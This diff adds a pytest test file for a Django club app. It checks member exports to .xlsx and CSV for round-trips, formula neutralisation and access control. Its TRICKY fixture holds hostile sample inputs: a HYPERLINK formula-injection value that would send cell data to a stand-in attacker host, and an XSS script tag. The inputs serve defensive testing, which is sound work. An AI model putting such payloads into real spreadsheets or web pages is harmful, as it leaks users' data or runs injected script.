@@ -1,0 +1,267 @@
+"""Member export to .xlsx and CSV, read back with openpyxl and csv, compared with the database."""
+
+import codecs
+import csv
+import io
+import zipfile
+
+import openpyxl
+import pytest
+from django.conf import settings
+from django.urls import reverse
+from django.utils import translation
+
+from clubs import exports, imports
+from clubs.models import Member
+from tests import factories
+
+TITLES_EN = ["Name", "Membership number", "E-mail", "Phone", "Active", "Guest"]
+TRICKY = [
+    "Yvonne 't Hart",
+    "José Müller-Lüdenscheidt",
+    "<script>alert('x')</script>",
+    "Anne & Piet <b>de Wit</b>",
+    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
+    "+31 6 12345678",
+    "-Min",
+    "@SUM(A1:A9)",
+]
+
+
+@pytest.fixture(autouse=True)
+def english():
+    with translation.override("en"):
+        yield
+
+
+@pytest.fixture
+def members(club):
+    factories.member(club, "Jan Jansen", membership_number="0012", email="jan@example.nl")
+    factories.member(club, "Marie Bakker", phone="06-12345678", is_active=False)
+    factories.member(club, "Gerrit Gast", is_guest=True)
+    for name in TRICKY:
+        factories.member(club, name)
+    return list(Member.objects.filter(club=club))
+
+
+def database_rows(members):
+    return [
+        [m.name, m.membership_number, m.email, m.phone, m.is_active, m.is_guest] for m in members
+    ]
+
+
+def xlsx_rows(members):
+    """As the sheet holds them: an empty text is an empty cell."""
+    return [[None if value == "" else value for value in row] for row in database_rows(members)]
+
+
+def read_xlsx(data):
+    workbook = openpyxl.load_workbook(io.BytesIO(data))
+    return workbook.active
+
+
+def read_csv(data):
+    assert data.startswith(codecs.BOM_UTF8)
+    text = data.decode("utf-8-sig")
+    assert "\r\n" in text
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+
+
+# ---------------------------------------------------------------- .xlsx
+
+
+def test_xlsx_reads_back_as_the_database(members):
+    sheet = read_xlsx(exports.members_xlsx(members))
+    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
+    assert rows[0] == TITLES_EN
+    assert rows[1:] == xlsx_rows(members)
+
+
+def test_xlsx_values_are_real_values(members):
+    sheet = read_xlsx(exports.members_xlsx(members))
+    jan = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "Jan Jansen")
+    assert jan[1].value == "0012" and jan[1].data_type == "s"  # the zeros stay
+    assert jan[4].value is True and jan[4].data_type == "b"
+
+
+def test_xlsx_header_is_bold_and_frozen_with_sensible_widths(members):
+    sheet = read_xlsx(exports.members_xlsx(members))
+    assert sheet.freeze_panes == "A2"
+    assert all(cell.font.bold for cell in sheet[1])
+    assert not any(cell.font.bold for cell in sheet[2])
+    assert sheet.auto_filter.ref == f"A1:F{len(members) + 1}"
+    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCDEF"}
+    assert all(exports.MIN_WIDTH <= width <= exports.MAX_WIDTH for width in widths.values())
+    longest_name = max(len(m.name) for m in members)
+    assert widths["A"] == min(longest_name + 2, exports.MAX_WIDTH)
+
+
+def test_xlsx_formula_like_names_are_text_not_formulas(members):
+    data = exports.members_xlsx(members)
+    sheet = read_xlsx(data)
+    cells = {cell.value: cell for cell in sheet["A"][1:]}
+    for name in TRICKY:
+        cell = cells[name]
+        assert cell.value == name
+        assert cell.data_type == "s", name
+        if name[0] in "=+-@":
+            assert cell.quotePrefix, name
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in xml and "<f " not in xml
+    # With formulas evaluated away the text is still there: nothing was computed.
+    computed = openpyxl.load_workbook(io.BytesIO(data), data_only=True).active
+    assert TRICKY[4] in [cell.value for cell in computed["A"]]
+
+
+def test_xlsx_names_round_trip_exactly(members):
+    sheet = read_xlsx(exports.members_xlsx(members))
+    assert [cell.value for cell in sheet["A"][1:]] == [m.name for m in members]
+
+
+def test_xlsx_of_no_members_has_just_the_header():
+    sheet = read_xlsx(exports.members_xlsx([]))
+    assert [list(row) for row in sheet.iter_rows(values_only=True)] == [TITLES_EN]
+    assert sheet.freeze_panes == "A2"
+
+
+def test_xlsx_titles_follow_the_language(members):
+    with translation.override("nl"):
+        data = exports.members_xlsx(members)
+    titles = [cell.value for cell in read_xlsx(data)[1]]
+    assert titles[0] == "Naam" and titles[1] == "Lidnummer"
+
+
+# ---------------------------------------------------------------- CSV
+
+
+def test_csv_reads_back_as_the_database(members):
+    rows = read_csv(exports.members_csv(members))
+    assert rows[0] == TITLES_EN
+    expected = [
+        [
+            ("'" + value if value[:1] in ("=", "+", "-", "@") else value)
+            if isinstance(value, str)
+            else ("yes" if value else "no")
+            for value in row
+        ]
+        for row in database_rows(members)
+    ]
+    assert rows[1:] == expected
+
+
+def test_csv_guards_formula_like_values_with_an_apostrophe(members):
+    rows = read_csv(exports.members_csv(members))
+    names = [row[0] for row in rows[1:]]
+    assert "'" + TRICKY[4] in names
+    assert "'+31 6 12345678" in names and "'-Min" in names and "'@SUM(A1:A9)" in names
+    assert "Yvonne 't Hart" in names  # an apostrophe inside a name is left alone
+    assert not any(name.startswith(("=", "+", "-", "@")) for name in names)
+
+
+def test_csv_keeps_accents_and_html_characters(members):
+    data = exports.members_csv(members)
+    text = data.decode("utf-8-sig")
+    assert "José Müller-Lüdenscheidt" in text
+    assert "<script>alert('x')</script>" in text
+    assert "Anne & Piet <b>de Wit</b>" in text
+
+
+def test_csv_yes_and_no_follow_the_language(members):
+    with translation.override("nl"):
+        rows = read_csv(exports.members_csv(members))
+    assert rows[0][0] == "Naam"
+    assert {row[4] for row in rows[1:]} == {"ja", "nee"}
+
+
+# ---------------------------------------------------------------- round trips
+
+
+@pytest.mark.parametrize("kind", ["xlsx", "csv"])
+@pytest.mark.parametrize("language", ["en", "nl"])
+def test_an_export_imports_back_as_already_members(club, members, kind, language):
+    with translation.override(language):
+        data = getattr(exports, f"members_{kind}")(members)
+    preview = imports.member_import_preview(club=club, data=data, filename=f"leden.{kind}")
+    assert preview.ok, preview.problems
+    assert preview.warnings == []
+    assert preview.to_add == []
+    assert len(preview.skipped) == len(members)
+
+
+@pytest.mark.parametrize("kind", ["xlsx", "csv"])
+def test_an_export_imports_into_another_club_exactly(club, other_club, members, kind):
+    admin = factories.role(other_club, "admin")
+    data = getattr(exports, f"members_{kind}")(members)
+    preview = imports.member_import_preview(club=other_club, data=data, filename=f"l.{kind}")
+    assert preview.can_apply, preview.problems
+    imports.member_import_apply(club=other_club, rows=preview.rows, by=admin)
+    fields = ["name", "membership_number", "email", "phone", "is_active", "is_guest"]
+    copied = list(Member.objects.filter(club=other_club).values_list(*fields))
+    assert copied == list(Member.objects.filter(club=club).values_list(*fields))
+
+
+# ---------------------------------------------------------------- the pages
+
+
+def export_url(club, kind):
+    return reverse(f"clubs:member-export-{kind}", kwargs={"club": club.slug})
+
+
+@pytest.fixture
+def director_client(client, club):
+    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
+    client.force_login(factories.role(club, "director"))
+    return client
+
+
+def test_xlsx_download(director_client, club, members, django_assert_num_queries):
+    with django_assert_num_queries(5):  # session, user, club, role, members
+        response = director_client.get(export_url(club, "xlsx"))
+    assert response.status_code == 200
+    assert response["Content-Type"] == (
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    )
+    disposition = response["Content-Disposition"]
+    assert disposition.startswith("attachment;")
+    assert f'filename="{club.slug}-members-' in disposition and disposition.endswith('.xlsx"')
+    sheet = read_xlsx(response.content)
+    rows = [list(row) for row in sheet.iter_rows(min_row=2, values_only=True)]
+    assert rows == xlsx_rows(Member.objects.filter(club=club))
+
+
+def test_csv_download(director_client, club, members, django_assert_num_queries):
+    with django_assert_num_queries(5):
+        response = director_client.get(export_url(club, "csv"))
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"].endswith('.csv"')
+    rows = read_csv(response.content)
+    assert [row[0] for row in rows[1:]] == [
+        "'" + m.name if m.name[:1] in "=+-@" else m.name for m in Member.objects.filter(club=club)
+    ]
+
+
+def test_download_holds_only_this_clubs_members(director_client, club, other_club, members):
+    factories.member(other_club, "Van Een Andere Club")
+    sheet = read_xlsx(director_client.get(export_url(club, "xlsx")).content)
+    assert "Van Een Andere Club" not in [cell.value for cell in sheet["A"]]
+
+
+@pytest.mark.parametrize("kind", ["xlsx", "csv"])
+@pytest.mark.parametrize("role", ["member", "scorer"])
+def test_below_director_gets_403(client, club, kind, role):
+    client.force_login(factories.role(club, role))
+    assert client.get(export_url(club, kind)).status_code == 403
+
+
+@pytest.mark.parametrize("kind", ["xlsx", "csv"])
+def test_another_clubs_director_gets_404(client, club, other_club, kind):
+    client.force_login(factories.role(other_club, "director"))
+    assert client.get(export_url(club, kind)).status_code == 404
+
+
+@pytest.mark.parametrize("kind", ["xlsx", "csv"])
+def test_anonymous_visitors_are_sent_to_log_in(client, club, kind):
+    response = client.get(export_url(club, kind))
+    assert response.status_code == 302 and reverse("login") in response.url
